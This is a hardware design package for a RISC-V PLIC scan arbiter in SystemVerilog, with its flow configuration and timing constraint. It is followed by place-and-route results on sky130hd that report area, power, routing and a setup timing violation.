<file path="config.mk">
export PLATFORM = sky130hd
export DESIGN_NAME = rv_plic_scan_arbiter
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/rv_plic_scan_arbiter.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CORE_UTILIZATION = 30
export DETAILED_ROUTE_END_ITERATION = 16
export HOLD_SLACK_MARGIN = 0.02
export PLACE_DENSITY_LB_ADDON = 0.05
export SLEW_MARGIN = 20
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
</file>
<file path="constraint.sdc">
create_clock -name clk_i -period 3.53 [get_ports clk_i]
set_input_delay 0.706 -clock clk_i [delete_from_list [all_inputs] [get_ports clk_i]]
set_output_delay 0.706 -clock clk_i [all_outputs]
set_load 0.05 [all_outputs]
</file>
<file path="src/rtl/rv_plic_scan_arbiter.sv">
// Per-target PLIC arbiter: visits one source per cycle and commits the best candidate at end of scan.
// Optional feature macro: RV_PLIC_SCAN_ARB_LIVE_MASK_EN (live ip/ie gating of irq_o).
module rv_plic_scan_arbiter #(
  parameter  int NumSrc = 32,
  parameter  int PrioW  = 2,
  localparam int SrcW   = $clog2(NumSrc)
) (
  input  logic                    clk_i,
  input  logic                    rst_ni,
  input  logic [NumSrc-1:0]       ip_i,
  input  logic [NumSrc-1:0]       ie_i,
  input  logic [NumSrc*PrioW-1:0] prio_i,
  input  logic [PrioW-1:0]        threshold_i,
  input  logic                    claim_i,
  output logic                    irq_o,
  output logic [SrcW-1:0]         irq_id_o,
  output logic                    scan_busy_o
);

  localparam logic [SrcW-1:0] IdxFirst = SrcW'(1'b1);
  localparam logic [SrcW-1:0] IdxLast  = SrcW'(NumSrc - 1);

  logic [SrcW-1:0]  idx_r;
  logic [SrcW-1:0]  best_id_r;
  logic [PrioW-1:0] best_prio_r;
  logic             irq_r;
  logic [SrcW-1:0]  irq_id_r;
  logic             busy_r;

  logic [PrioW-1:0] cur_prio_s;
  logic             cand_s;
  logic [SrcW-1:0]  nxt_id_s;
  logic [PrioW-1:0] nxt_prio_s;

  // Evaluate the source under the scan pointer against threshold and running best.
  always_comb begin
    cur_prio_s = prio_i[idx_r*PrioW +: PrioW];
    cand_s     = ip_i[idx_r] & ie_i[idx_r] &
                 (cur_prio_s > threshold_i) & (cur_prio_s > best_prio_r);
    if (cand_s) begin
      nxt_id_s   = idx_r;
      nxt_prio_s = cur_prio_s;
    end else begin
      nxt_id_s   = best_id_r;
      nxt_prio_s = best_prio_r;
    end
  end

  // Scan pointer, running best and committed outputs; claim aborts the scan and idles one cycle.
  always_ff @(posedge clk_i or negedge rst_ni) begin
    if (!rst_ni) begin
      idx_r       <= IdxFirst;
      best_id_r   <= {SrcW{1'b0}};
      best_prio_r <= {PrioW{1'b0}};
      irq_r       <= 1'b0;
      irq_id_r    <= {SrcW{1'b0}};
      busy_r      <= 1'b1;
    end else if (claim_i) begin
      idx_r       <= IdxFirst;
      best_id_r   <= {SrcW{1'b0}};
      best_prio_r <= {PrioW{1'b0}};
      irq_r       <= 1'b0;
      irq_id_r    <= {SrcW{1'b0}};
      busy_r      <= 1'b0;
    end else if (!busy_r) begin
      idx_r       <= IdxFirst;
      best_id_r   <= {SrcW{1'b0}};
      best_prio_r <= {PrioW{1'b0}};
      busy_r      <= 1'b1;
    end else if (idx_r == IdxLast) begin
      // Last index folds into the committed result directly.
      irq_id_r    <= nxt_id_s;
      irq_r       <= (nxt_id_s != {SrcW{1'b0}});
      idx_r       <= IdxFirst;
      best_id_r   <= {SrcW{1'b0}};
      best_prio_r <= {PrioW{1'b0}};
    end else begin
      idx_r       <= idx_r + IdxFirst;
      best_id_r   <= nxt_id_s;
      best_prio_r <= nxt_prio_s;
    end
  end

`ifdef RV_PLIC_SCAN_ARB_LIVE_MASK_EN
  // Drop the request as soon as the committed source is no longer pending or enabled.
  assign irq_o = irq_r & ip_i[irq_id_r] & ie_i[irq_id_r];
`else
  assign irq_o = irq_r;
`endif
  assign irq_id_o    = irq_id_r;
  assign scan_busy_o = busy_r;

endmodule
</file>
==> flow_summary.json <==
{
  "run_status": "complete, but fails checks",
  "violations": "setup timing",
  "wirelength_um": 6330,
  "antenna_left": 0,
  "vias": 2084,
  "synth_area_um2": 1870,
  "netlist_instances": 185,
  "cp-start-kind": "input port",
  "min-delay-path-class": "flip-flop to flip-flop",
  "clock_latency_ps": 250,
  "htree_levels": 1,
  "layout_common_cells": "clkdlybuf4s50_1 (113), dlygate4sd2_1 (24), mux4_2 (20), nand2_1 (20), dfrtp_1 (17)",
  "diodes": 0,
  "synth_top_area_share_pct": 24.0,
  "final_layout_size_suffix_gt1_share_pct": 17.6,
  "num-fill-cells": 516,
  "dr.pass1.iters": 4,
  "place_inst": 396,
  "crit_required_ps": 3700,
  "crit_path_end_kind": "flip-flop",
  "fin_util_pct": 59.4,
  "power.leakage_uw": 0.00143,
  "cts_buffers": 3,
  "num_rows": 28,
  "dr.first_iter.drc_count": 67,
  "setup_ws_ps": -301,
  "slew_headroom_pct": 42.2,
  "crit_family": "multiplexers",
  "final_area_um2": 3560,
  "path_buf_inv": 1,
  "grt_overflow": 0,
  "crit_type": "input port to flip-flop",
  "cp_max_fo": 7,
  "slew_violations": 0,
  "final_common_cell": "clkdlybuf4s50_1",
  "cts_tree": "yes",
  "clk_pin_slew_ps": 70,
  "grt_max_degree": 25,
  "synthToLayoutAreaGrowth_pct": 89.9,
  "clockBufferDepth": 2,
  "antenna_found_initial": 0,
  "vias_per_cell": 5.15,
  "cap_violations": 0,
  "syn_nets": 324,
  "chipHeight_um": 81.0,
  "synthFlopType": "dfrtp_1",
  "io_buffers": 139,
  "yosys.area.top_type": "mux4_2",
  "synthSimpleGateAreaFrac_pct": 21.0,
  "worst_pin_slew_ps": 864,
  "synth_compound_area_share_pct": 15.2,
  "hold_slack_ps": 557,
  "first_global_vias": 2180,
  "nets": 470,
  "die_w_um": 81.0,
  "synthArstFlopShare_pct": 100,
  "postSynthAreaPerCell_um2": 10.1,
  "yosys-top-cells-area": "mux4_2 (24%), dfrtp_1 (23%), ha_1 (4.0%), nand2_1 (4.0%), dfstp_2 (2.8%)",
  "clock_sinks": 19,
  "hold_viol_final": 0,
  "synth_edf_count": 0,
  "fin_skew_ps": 1.89,
  "vdd_drop_max_mv": 0.142,
  "start_util_pct": 31.3,
  "hold_buffers": 0,
  "synth_adder_area_share_pct": 4.01,
  "cp_cell_sequence": "clkdlybuf4s50_1, mux4_2, mux4_2, mux2_4, ha_4, nor2b_2, o221ai_2, nand4b_1, nor4_4, a21oi_4, mux2_4, a31oi_1",
  "slowest_stage": "mux4_2",
  "grt_first_pass_wirelength_um": 9870,
  "stdcell_count": 405,
  "cp.arrival_ps": 4000,
  "placed_cell_area_um2": 3430,
  "fin_crit_sh_pct": 109,
  "detail_route.wl_per_cell_um": 15.6,
  "setup_tns_ps": -2640,
  "root_buffer": "clkbuf_8",
  "synth_cell_types": 47,
  "ioPinCount": 140,
  "synth_seq_cells": 19,
  "gp_congestion": 0.762,
  "rsz0062_at_grt": "yes",
  "drc_errors": 0,
  "cellPowerDensity_nw_per_um2": 199,
  "fin_crit_ps": 3830,
  "report.final.setup_viol": 13,
  "muxShareOfSynthArea_pct": 27.9,
  "synth_warnings": 0,
  "die_area_um2": 6570,
  "synth_top_family_by_area": "multiplexers",
  "yosys.area_share.xor_xnor_pct": 0.935,
  "worst_path_largest_cell_delay_ps": 460,
  "coreArea_um2": 5990,
  "fmax_mhz": 261,
  "seq_area_frac_synth_pct": 25.5,
  "grtUsageTotal_pct": 19.9,
  "dp_hpwl_um": 5250
}
registers in the layout (all words and copies together), names as in the netlist:
register	flops
irq_id_o	5
scan_busy_o	1
best_prio_r	2
idx_r	5
best_id_r	5
irq_o	1
cell families after synthesis:
family	after synthesis
compound gates	39
xor+xnor	2
fa+ha+maj	6
buf+inv	19
flops	19
mux	27
simple gates	73
final timing paths:
path | start | endpoint | slack [ps] | cells past startpoint
setup / recovery | prio_i[3] | irq_o | -300 | 12
hold / removal | best_id_r[0] | best_id_r[0] | 560 | 2
setup reg to reg | idx_r[0] | irq_o | -280 | 12
hold reg to reg | best_id_r[0] | best_id_r[0] | 560 | 2
max in group asynchronous | rst_ni | idx_r[3] | 2050 | 1
min in group asynchronous | rst_ni | irq_id_o[4] | 940 | 1
worst register-to-register path, delay by kind of cell (launching register included):
kind                       cells  cell delay [ps]
muxes                          4             1630
and+or+nand+nor                3              680
DFF                            1              590
AOI/OAI and AO/OA              3              400
adders and majority gates      1              280
buffers and inverters          1              150
synthesized netlist by cell type (2+ instances only):
| cell type | n |
|---|---|
| ha_1 | 6 |
| o21ai_0 | 5 |
| a21oi_1 | 8 |
| dfstp_2 | 2 |
| nor2_1 | 11 |
| or2_1 | 2 |
| buf_4 | 2 |
| a211oi_1 | 2 |
| mux4_2 | 20 |
| nand4b_1 | 3 |
| nand3_1 | 10 |
| and2_1 | 5 |
| buf_2 | 7 |
| nand2_1 | 20 |
| inv_1 | 6 |
| mux2i_1 | 5 |
| a22oi_1 | 4 |
| and3b_1 | 3 |
| o211ai_1 | 4 |
| buf_6 | 2 |
| dfrtp_1 | 17 |
| nor4_1 | 2 |
| a31oi_1 | 4 |
| nand3b_1 | 5 |
| nor2b_1 | 5 |
| and3_1 | 2 |
| nand4_1 | 3 |
per-stage QoR:
stage	setup WS [ps]	total power (µW)
6_report	-301	707
5_1_grt	-449	751
4_1_cts	-282	713
3_5_place_dp	-654	552
3_3_place_gp	-571	549
2_1_floorplan	-171	367
report_power, final:
part	switching [µW]	internal, µW	total, µW
combinational	106	225	331
sequential	4.44	222	227
clock	70.4	78.4	149
area by class of cell:
cell class	instances	area, µm²	area share (%)
Tap cell	75	93.8	2.64
Clock buffer	3	41.3	1.16
Inverter	6	22.5	0.633
Sequential cell	19	478	13.4
Multi-Input combinational cell	147	1400	39.3
Clock inverter	1	5.00	0.141
Timing Repair Buffer	154	1520	42.7
what timing repair did:
item,4_1_cts,5_1_grt
setup buffers,5,0
gates cloned,0,0
gates resized for setup,30,8
setup endpoints to repair,13,13
pin swaps,5,1
per-layer routing:
layer | vias up | share of wire [%] | wire length, µm | track usage [%]
li1 | 1013 | - | - | -
met1 | 972 | 38 | 2430 | 21.8
met2 | 91 | 53 | 3380 | 39.2
met3 | 8 | 6.6 | 419 | 3.93
met4 | 0 | 1.6 | 100 | 3.75
met5 | - | 0 | 0 | 0
Note: power is estimated with default switching activity, not from simulation.
